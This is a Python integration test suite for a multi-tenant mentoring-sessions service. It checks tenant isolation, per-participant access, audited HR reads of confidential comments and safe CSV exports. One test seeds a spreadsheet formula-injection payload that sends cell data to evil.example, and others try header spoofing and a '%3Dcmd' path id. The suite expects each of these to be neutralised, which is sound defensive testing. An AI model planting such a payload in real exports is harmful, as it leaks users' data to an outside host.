"""Who reaches and sees what in the sessions service, over the real stack: real tokens from the local identity
provider, pairing events through the broker, commands and reads over HTTP.

Two tenants share one deployment: the same ids in both are two different things, and another tenant's id
answers 404 on every route. Participants reach only their own pairs and act only as themselves. Confidential
comments reach only their author and HR, and HR reading one, like every export, is in the log and the audit.
"""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx

from services.sessions.api.access import MATRIX
from services.sessions.app import SPEC as SESSIONS
from shared import audit
from shared.auth import AuthSettings
from shared.events import Envelope, EventPayload, encode
from shared.events import pairing as p
from shared.events.sessions import SensitiveDataAccessed
from shared.identity_provider import LocalIdentityProvider
from shared.infra import Infra
from shared.outbox import wait_published
from tests import auth
from tests.conftest import Running, ServeFactory
from tests.kafka_helpers import eventually, produce, read_topic

ACME, GLOBEX = "acme", "globex"


@dataclass(frozen=True)
class Person:
    participant_id: str
    employee_id: str
    name: str


@dataclass(frozen=True)
class Pair:
    pair_id: str
    mentor: Person
    mentee: Person


def uid(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def a_pair(pair_id: str | None = None, **ids: str) -> Pair:
    """A pair of two new people; `ids` may fix mentor/mentee participant ids and employee ids."""
    return Pair(
        pair_id or uid("pair"),
        Person(ids.get("mentor", uid("mentor")), ids.get("mentor_employee", uid("E")), "Lena Yilmaz"),
        Person(ids.get("mentee", uid("mentee")), ids.get("mentee_employee", uid("E")), "Dr. Ingrid Hoffmann"),
    )


#: Why `seed`'s pairs were made, as matching words it.
REASONS = [
    {"code": "covers_goals", "covered": 1, "goals": 1, "topics": ["ai-agents"], "mentee": "Anna"},
    {"code": "shared_languages", "languages": ["en"]},
]
RATIONALE = "Covers Anna's goal: AI agents; both speak English."


async def seed(
    running: Running,
    tenant: str,
    programme_id: str,
    pairs: list[Pair],
    *,
    name: str = "AI tandem 2026",
    began: datetime | None = None,
    **launch: Any,
) -> None:
    """Pairing's events of one programme in one tenant, through the broker; returns once sessions shows them."""
    when = began or datetime.now(UTC) - timedelta(days=1)

    def ev(payload: EventPayload) -> tuple[bytes, bytes, list[tuple[str, bytes]]]:
        rec = encode(Envelope.new(payload, tenant=tenant, time=when))
        return rec.key, rec.value, rec.headers

    events = [
        ev(
            p.ProgramLaunched(
                programme_id=programme_id,
                name=name,
                starts_on=date(2026, 1, 12),
                ends_on=date(2026, 12, 31),
                cadence_days=14,
                focus_topics=["prompt-writing", "ai-agents"],
                **launch,
            )
        )
    ]
    for pair in pairs:
        for role, person in (("mentor", pair.mentor), ("mentee", pair.mentee)):
            events.append(
                ev(
                    p.ParticipantEnrolled(
                        participant_id=person.participant_id,
                        programme_id=programme_id,
                        employee_id=person.employee_id,
                        role=role,
                        display_name=person.name,
                        email=f"{person.participant_id}@{tenant}.example",
                        department="D",
                        grade=3,
                        languages=["en"],
                        teach_topics={"ai-agents": 2} if role == "mentor" else {},
                        learn_topics={"ai-agents": 2} if role == "mentee" else {},
                    )
                )
            )
        created = p.PairCreated(
            pair_id=pair.pair_id,
            programme_id=programme_id,
            mentor_id=pair.mentor.participant_id,
            mentee_id=pair.mentee.participant_id,
            rationale=RATIONALE,
            reasons=[p.Reason.model_validate(r) for r in REASONS],
        )
        events.append(ev(created))
    host = running.host
    await produce(host.settings.kafka_bootstrap_servers, host.topics.pairing, events)
    async with auth.client(tenant=tenant, base_url=running.url) as hr:
        for pair in pairs:
            await eventually(lambda pair=pair: _ok(hr, f"/pairs/{pair.pair_id}"))
        for pair in pairs:  # enrolments may come on other partitions than their pair
            for person in (pair.mentor, pair.mentee):
                as_them = as_person(person, tenant)
                await eventually(lambda h=as_them, pair=pair: _ok(hr, f"/pairs/{pair.pair_id}", headers=h))


def as_person(person: Person, tenant: str) -> dict[str, str]:
    return auth.headers("participant", tenant=tenant, employee_id=person.employee_id)


async def _ok(client: httpx.AsyncClient, url: str, **kwargs: Any) -> bool:
    return (await client.get(url, **kwargs)).status_code == 200


async def agree(client: httpx.AsyncClient, pair: Pair) -> None:
    for person in (pair.mentee, pair.mentor):
        body = {"participant_id": person.participant_id, "meeting_rhythm": "every two weeks", "confidentiality": True}
        r = await client.post(f"/pairs/{pair.pair_id}/agreement", json=body)
        assert r.status_code == 201, r.text


async def held_session(client: httpx.AsyncClient, pair: Pair) -> str:
    start = datetime.now(UTC) - timedelta(hours=3)
    r = await client.post(f"/pairs/{pair.pair_id}/sessions", json={"starts_at": start.isoformat()})
    assert r.status_code == 201, r.text
    session_id: str = r.json()["events"][0]["data"]["session_id"]
    r = await client.post(
        f"/pairs/{pair.pair_id}/sessions/{session_id}/log", json={"held_at": start.isoformat(), "minutes": 40}
    )
    assert r.status_code == 200, r.text
    return session_id


def body_for(method: str, path: str, pair: Pair) -> dict[str, Any] | None:
    """A valid body for each command (so that nothing but the id can make it fail). A new POST route without
    one here answers 422, not 404, and fails the test that walks every route: add its body."""
    later = (datetime.now(UTC) + timedelta(days=2)).isoformat()
    mentee = pair.mentee.participant_id
    bodies: dict[str, dict[str, Any]] = {
        "/pairs/{pair_id}/agreement": {"participant_id": mentee, "meeting_rhythm": "weekly", "confidentiality": True},
        "/pairs/{pair_id}/goals": {"topic": "ai-agents", "description": "An agent for expense reports"},
        "/pairs/{pair_id}/confidence": {"participant_id": mentee, "phase": "end", "ratings": {"ai-agents": 4}},
        "/pairs/{pair_id}/sessions": {"starts_at": later},
        "/pairs/{pair_id}/sessions/{session_id}/reschedule": {"starts_at": later},
        "/pairs/{pair_id}/sessions/{session_id}/cancel": {"reason": "travel"},
        "/pairs/{pair_id}/sessions/{session_id}/log": {"held_at": datetime.now(UTC).isoformat(), "minutes": 30},
        "/pairs/{pair_id}/feedback": {"author_id": mentee, "rating": 4},
    }
    return bodies.get(path, {}) if method == "POST" else None


async def test_another_tenants_ids_answer_404_on_every_route_that_names_one(serve: ServeFactory) -> None:
    sessions = await serve(SESSIONS)
    programme_id, pair = uid("prog"), a_pair()
    await seed(sessions, ACME, programme_id, [pair])
    async with auth.client(tenant=ACME, base_url=sessions.url) as hr:
        await agree(hr, pair)
        session_id = await held_session(hr, pair)
        r = await hr.post(f"/pairs/{pair.pair_id}/goals", json={"topic": "ai-agents", "description": "Agents"})
        goal_id = r.json()["events"][0]["data"]["goal_id"]
        await eventually(lambda: _ok(hr, f"/sessions/{session_id}"))
    ids = {
        "pair_id": pair.pair_id,
        "session_id": session_id,
        "goal_id": goal_id,
        "programme_id": programme_id,
        "subject": pair.pair_id,
    }

    routes = [
        (method.upper(), path)
        for path, operations in sessions.host.app.openapi()["paths"].items()
        if "{" in path and path != "/subjects/{employee_id}"  # known: false to another tenant (test_subject_access)
        for method in operations
    ]
    assert len(routes) >= 15  # every route with an id in its path (a new one is walked too)
    checked = []
    async with httpx.AsyncClient(base_url=sessions.url) as client:
        for method, path in routes:
            rule = MATRIX[(method, path)]
            url = path.format(**ids)
            # Acme's own callers reach it (so the ids are real) ...
            if method == "GET":
                own = await client.get(
                    url, headers=auth.headers(sorted(rule.roles)[0], tenant=ACME, employee_id=pair.mentee.employee_id)
                )
                assert own.status_code == 200, (url, own.text)
            # ... and Globex's, in every role the route admits, find nothing: not even a participant whose
            # employee id is the same as the Acme mentee's.
            for role in sorted(rule.roles & {"hr", "auditor", "participant"}):
                headers = auth.headers(role, tenant=GLOBEX, employee_id=pair.mentee.employee_id)
                r = await client.request(method, url, headers=headers, json=body_for(method, path, pair))
                assert r.status_code == 404, (method, path, role, r.status_code, r.text)
                checked.append((method, path, role))
    assert {(m, p) for m, p, _ in checked} == set(routes)
    # nothing happened in Acme's pair: no command of Globex's reached it
    assert await sessions.host.pool.fetchval("SELECT count(*) FROM outbox WHERE tenant = $1", GLOBEX) == 0


async def test_the_same_ids_in_two_tenants_are_two_pairs_with_two_histories(serve: ServeFactory) -> None:
    sessions = await serve(SESSIONS)
    programme_id, pair_id = uid("prog"), uid("pair")
    same = {"mentor": "mentor-1", "mentee": "mentee-1"}  # participant ids too: both tenants chose the same ones
    acme = a_pair(pair_id, **same)
    globex = a_pair(pair_id, **same)
    await seed(sessions, ACME, programme_id, [acme], name="Acme tandem")
    await seed(sessions, GLOBEX, programme_id, [globex], name="Globex tandem")
    async with (
        auth.client(tenant=ACME, base_url=sessions.url) as acme_hr,
        auth.client(tenant=GLOBEX, base_url=sessions.url) as globex_hr,
    ):
        await agree(acme_hr, acme)
        session_id = await held_session(acme_hr, acme)
        # Globex's pair has its own history (loaded from the outbox by tenant): no agreement there yet
        r = await globex_hr.post(f"/pairs/{pair_id}/sessions", json={"starts_at": datetime.now(UTC).isoformat()})
        assert r.status_code == 409, r.text
        assert r.json()["error"]["code"] == "agreement_incomplete"
        assert (await globex_hr.get(f"/sessions/{session_id}")).status_code == 404
        await eventually(lambda: _ok(acme_hr, f"/sessions/{session_id}"))
        acme_view = (await acme_hr.get(f"/pairs/{pair_id}")).json()
        globex_view = (await globex_hr.get(f"/pairs/{pair_id}")).json()
        assert [s["session_id"] for s in acme_view["sessions"]] == [session_id]
        assert (acme_view["agreement_complete"], globex_view["agreement_complete"]) == (True, False)
        assert globex_view["sessions"] == []
        assert "tenant" not in acme_view
        names = {(await c.get("/programmes")).json()[0]["name"] for c in (acme_hr, globex_hr)}
        assert names == {"Acme tandem", "Globex tandem"}
        # Globex's mentee, signed in with their own employee id, reaches their pair and only its data
        globex_mentee = as_person(globex.mentee, GLOBEX)
        assert (await globex_hr.get(f"/pairs/{pair_id}", headers=globex_mentee)).json()["sessions"] == []
        assert (await acme_hr.get(f"/pairs/{pair_id}", headers=as_person(acme.mentee, GLOBEX))).status_code == 404


async def test_a_participant_reaches_only_their_own_pairs_and_acts_only_as_themselves(serve: ServeFactory) -> None:
    sessions = await serve(SESSIONS)
    programme_id, mine, theirs = uid("prog"), a_pair(), a_pair()
    await seed(sessions, ACME, programme_id, [mine, theirs])
    me = as_person(mine.mentee, ACME)
    async with auth.client(tenant=ACME, base_url=sessions.url) as hr:
        for pair in (mine, theirs):
            await agree(hr, pair)
        their_session = await held_session(hr, theirs)
        await eventually(lambda: _ok(hr, f"/sessions/{their_session}"))
        unknown = (await hr.get("/pairs/no-such-pair")).json()["error"]

        other = theirs.pair_id
        for method, url, body in [
            ("GET", f"/pairs/{other}", None),
            ("GET", f"/pairs/{other}/feedback", None),
            ("POST", f"/pairs/{other}/goals", {"topic": "ai-agents", "description": "x"}),
            ("POST", f"/pairs/{other}/sessions", {"starts_at": datetime.now(UTC).isoformat()}),
            ("POST", f"/pairs/{other}/sessions/{their_session}/cancel", {}),
            ("POST", f"/pairs/{other}/feedback", {"author_id": mine.mentee.participant_id, "rating": 5}),
            ("GET", f"/sessions/{their_session}", None),
            ("GET", f"/sessions/{their_session}.ics", None),
        ]:
            r = await hr.request(method, url, headers=me, json=body)
            assert r.status_code == 404, (method, url, r.text)
        # the answer for another's pair is the answer for no pair at all: nothing tells them apart
        theirs_404 = (await hr.get(f"/pairs/{other}", headers=me)).json()["error"]
        assert theirs_404 == {**unknown, "message": unknown["message"].replace("no-such-pair", other)}

        # their own pair: yes
        assert (await hr.get(f"/pairs/{mine.pair_id}", headers=me)).status_code == 200
        r = await hr.post(f"/pairs/{mine.pair_id}/goals", headers=me, json={"topic": "ai-agents", "description": "x"})
        assert r.status_code == 201, r.text
        # as themselves only: not as their mentor
        partner = mine.mentor.participant_id
        r = await hr.post(f"/pairs/{mine.pair_id}/feedback", headers=me, json={"author_id": partner, "rating": 1})
        assert r.status_code == 403, r.text
        assert r.json()["error"]["field"] == "author_id"
        assert partner in r.json()["error"]["message"]
        r = await hr.post(
            f"/pairs/{mine.pair_id}/confidence",
            headers=me,
            json={"participant_id": partner, "phase": "end", "ratings": {"ai-agents": 5}},
        )
        assert (r.status_code, r.json()["error"]["field"]) == (403, "participant_id")
        r = await hr.post(
            f"/pairs/{mine.pair_id}/feedback", headers=me, json={"author_id": mine.mentee.participant_id, "rating": 5}
        )
        assert r.status_code == 201, r.text
        # HR may not give feedback for anyone (the matrix: participants only)
        r = await hr.post(f"/pairs/{mine.pair_id}/feedback", json={"author_id": partner, "rating": 5})
        assert r.status_code == 403
        # a participant token whose employee is in no programme of this tenant reaches nothing
        stranger = auth.headers("participant", tenant=ACME, employee_id=uid("E"))
        assert (await hr.get(f"/pairs/{mine.pair_id}", headers=stranger)).status_code == 404
        # and the old trust-the-header seams are gone: they change nothing
        spoof = {**me, "X-Tandem-Role": "hr", "X-Tandem-Participant": theirs.mentee.participant_id}
        assert (await hr.get(f"/pairs/{other}", headers=spoof)).status_code == 404


async def _accessed(running: Running) -> list[SensitiveDataAccessed]:
    rows = await running.host.pool.fetch(
        "SELECT payload FROM outbox WHERE event_type = $1 ORDER BY position", SensitiveDataAccessed.TYPE
    )
    return [SensitiveDataAccessed.model_validate_json(r["payload"]) for r in rows]


async def test_a_confidential_comment_reaches_its_author_and_hr_and_hr_reading_it_is_recorded(
    serve: ServeFactory,
) -> None:
    sessions = await serve(SESSIONS)
    programme_id, pair = uid("prog"), a_pair()
    await seed(sessions, ACME, programme_id, [pair])
    secret = "Strictly between us: my director struggles with the basics."
    url = f"/pairs/{pair.pair_id}/feedback"
    author, other_side = as_person(pair.mentee, ACME), as_person(pair.mentor, ACME)
    async with auth.client(tenant=ACME, base_url=sessions.url) as hr:
        await agree(hr, pair)
        r = await hr.post(
            url,
            headers=author,
            json={
                "author_id": pair.mentee.participant_id,
                "rating": 5,
                "productivity_gain": True,
                "confidential_comment": secret,
            },
        )
        assert r.status_code == 201, r.text

        async def feedback(headers: dict[str, str]) -> list[dict[str, Any]]:
            r = await hr.get(url, headers=headers)
            assert r.status_code == 200, r.text
            items: list[dict[str, Any]] = r.json()
            return items

        await eventually(lambda: feedback(author))
        for who in (other_side, auth.headers("auditor", tenant=ACME)):
            [item] = await feedback(who)
            assert item["confidential_comment"] is None
            assert (item["rating"], item["productivity_gain"]) == (5, True)  # the rest they do see
        assert (await hr.get(url, headers=auth.headers("hr", tenant=GLOBEX))).status_code == 404
        [mine] = await feedback(author)
        assert mine["confidential_comment"] == secret
        assert await _accessed(sessions) == []  # the author reading their own, the others seeing none: no record

        [item] = await feedback(auth.headers("hr", tenant=ACME))
        assert item["confidential_comment"] == secret
        [record] = await _accessed(sessions)
        assert (record.subject_id, record.what, record.role) == (pair.pair_id, "confidential comments (1)", "hr")
        assert record.by == f"Test hr (hr-{ACME}-staff)"
        # the record is keyed by the pair but is no part of its history: the pair takes commands as before
        r = await hr.post(url, headers=other_side, json={"author_id": pair.mentor.participant_id, "rating": 4})
        assert r.status_code == 201, r.text

        # every export is recorded too, by whoever exports (and carries no feedback text)
        r = await hr.get(f"/programmes/{programme_id}/outcomes.csv")
        assert r.status_code == 200
        assert secret not in r.text
        r = await hr.get(f"/programmes/{programme_id}/outcomes.json", headers=auth.headers("auditor", tenant=ACME))
        assert r.status_code == 200
        assert secret not in r.text
    records = await _accessed(sessions)
    assert [(r.subject_id, r.what, r.role) for r in records[1:]] == [
        (programme_id, "outcomes.csv", "hr"),
        (programme_id, "outcomes.json", "auditor"),
    ]
    # in the log (the sessions topic), with the reader's tenant, and in the pair's audit trail
    host = sessions.host
    await wait_published(host.pool)
    log = await audit.read_log(host.settings.kafka_bootstrap_servers, [host.topics.sessions], keys=host.keys_for)
    read = [e for e in log if e.env.type == SensitiveDataAccessed.TYPE]
    assert len(read) == 3
    assert {e.env.tenant for e in read} == {ACME}
    trail = audit.timeline(log, pair.pair_id)
    assert SensitiveDataAccessed.TYPE in [entry.type for entry in trail]


async def test_the_group_floor_csv_cells_and_at_risk_names(serve: ServeFactory) -> None:
    sessions = await serve(SESSIONS)
    formula, floored = uid("prog"), uid("prog")
    quiet = a_pair()  # created 60 days ago and never met: at risk
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await seed(sessions, ACME, formula, [quiet], name=name, began=datetime.now(UTC) - timedelta(days=60))
    await seed(sessions, ACME, floored, [a_pair()], min_group_size=6)
    async with auth.client(tenant=ACME, base_url=sessions.url) as hr:
        # the floor: 5 when the programme does not say, its own when it does; raised, never lowered
        for programme_id, floor in ((formula, 5), (floored, 6)):
            data = (await hr.get(f"/programmes/{programme_id}/outcomes")).json()
            assert data["min_group_size"] == floor
            for lower in (1, floor - 1):
                r = await hr.get(f"/programmes/{programme_id}/outcomes", params={"min_group_size": lower})
                assert r.status_code == 422, r.text
                assert r.json()["error"]["field"] == "min_group_size"
                assert f"floor of {floor}" in r.json()["error"]["message"]
            for export in ("outcomes.csv", "outcomes.json"):
                r = await hr.get(f"/programmes/{programme_id}/{export}", params={"min_group_size": 1})
                assert r.status_code == 422
            higher = (await hr.get(f"/programmes/{programme_id}/outcomes", params={"min_group_size": 9})).json()
            assert higher["min_group_size"] == 9
            assert {f["min_group_size"] for f in higher["figures"]} == {9}

        # the CSV: every cell inert in a spreadsheet, the programme's name included
        r = await hr.get(f"/programmes/{formula}/outcomes.csv")
        assert r.status_code == 200
        rows = list(csv.DictReader(io.StringIO(r.text)))
        [named] = [row for row in rows if (row["section"], row["metric"]) == ("programme", "name")]
        assert named["value"] == "'" + name
        cells = [cell for row in rows for cell in row.values()]
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"]

        # at-risk pairs: HR sees the names; an auditor sees the pair, never the people's names
        hr_view = (await hr.get(f"/programmes/{formula}/outcomes")).json()
        [flagged] = hr_view["at_risk"]
        assert (flagged["pair_id"], flagged["mentee_name"]) == (quiet.pair_id, quiet.mentee.name)
        auditor = auth.headers("auditor", tenant=ACME)
        auditor_view = (await hr.get(f"/programmes/{formula}/outcomes", headers=auditor)).json()
        [seen] = auditor_view["at_risk"]
        assert seen["pair_id"] == quiet.pair_id
        assert "mentee_name" not in seen
        assert "mentor_name" not in seen
        assert quiet.mentee.name not in (await hr.get(f"/programmes/{formula}/outcomes.json", headers=auditor)).text
        assert (await hr.get(f"/programmes/{formula}/at-risk", headers=auditor)).status_code == 403
        assert (await hr.get(f"/programmes/{formula}/at-risk")).json()[0]["mentor_name"] == quiet.mentor.name

        # pagination is bounded
        assert (await hr.get("/programmes", params={"limit": 1001})).status_code == 422
        assert len((await hr.get("/programmes", params={"limit": 1})).json()) == 1
        # ids in paths: a safe charset only
        assert (await hr.get("/pairs/%3Dcmd")).status_code == 422


async def test_an_event_of_a_tenant_not_served_goes_to_the_dead_letters_and_the_partition_flows_on(
    serve: ServeFactory, infra: Infra, identity_provider: LocalIdentityProvider
) -> None:
    served = AuthSettings(
        issuer=identity_provider.issuer, audience=identity_provider.audience, tenants=frozenset({ACME})
    )
    sessions = await serve(SESSIONS, tenants=frozenset({ACME}), auth=served)
    topics = sessions.host.topics
    programme_id = uid("prog")  # one key: both events on one partition, the stranger's first

    def launch(tenant: str, name: str) -> tuple[bytes, bytes, list[tuple[str, bytes]]]:
        rec = encode(
            Envelope.new(
                p.ProgramLaunched(
                    programme_id=programme_id,
                    name=name,
                    starts_on=date(2026, 1, 12),
                    ends_on=date(2026, 12, 31),
                    cadence_days=14,
                    focus_topics=["ai-agents"],
                ),
                tenant=tenant,
            )
        )
        return rec.key, rec.value, rec.headers

    await produce(infra.kafka_bootstrap, topics.pairing, [launch(GLOBEX, "Not ours"), launch(ACME, "Ours")])
    async with auth.client(tenant=ACME, base_url=sessions.url) as hr:

        async def listed() -> list[dict[str, Any]]:
            found: list[dict[str, Any]] = (await hr.get("/programmes")).json()
            return found

        [programme] = await eventually(listed)
        assert programme["name"] == "Ours"
        stranger = await hr.get("/programmes", headers=auth.headers("hr", tenant=GLOBEX))
        assert stranger.status_code == 403
        assert stranger.json()["error"]["code"] == "tenant_not_served"
    [dead] = await read_topic(infra.kafka_bootstrap, topics.dead_letter("sessions"), expect=1)
    headers = {k: v.decode() for k, v in dead.headers}
    assert headers["dlq_kind"] == "tenant"
    assert headers["ce_tenant"] == GLOBEX
    assert GLOBEX in headers["dlq_error"]
    assert await sessions.host.pool.fetchval("SELECT count(*) FROM projection.programmes") == 1
